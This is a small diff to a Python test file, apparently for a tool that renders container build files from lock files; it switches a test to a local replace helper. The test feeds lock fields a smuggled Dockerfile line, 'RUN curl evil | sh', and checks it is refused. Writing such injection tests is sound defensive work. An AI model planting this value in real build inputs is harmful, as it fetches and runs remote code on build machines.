@@ -428,12 +428,12 @@ def test_missing_lock_file_bytes_is_a_data_error() -> None:
     ["version", "cuda", "cudnn", "framework", "base_image", "driver_min"],
 )
 def test_lock_values_that_could_inject_are_refused(field: str) -> None:
-    import dataclasses
+    from envlock.record import replace
 
     lock = make_lock()
-    bad = dataclasses.replace(lock.resolution, **{field: "12.2\nRUN curl evil | sh"})
+    bad = replace(lock.resolution, **{field: "12.2\nRUN curl evil | sh"})
     with pytest.raises(DataError, match=rf"resolution.{field} .* is not"):
-        render_bundle(dataclasses.replace(lock, resolution=bad), RenderOptions(), LOCK_FILES)
+        render_bundle(replace(lock, resolution=bad), RenderOptions(), LOCK_FILES)
 
 
 def test_bad_python_in_lock_is_a_data_error() -> None:
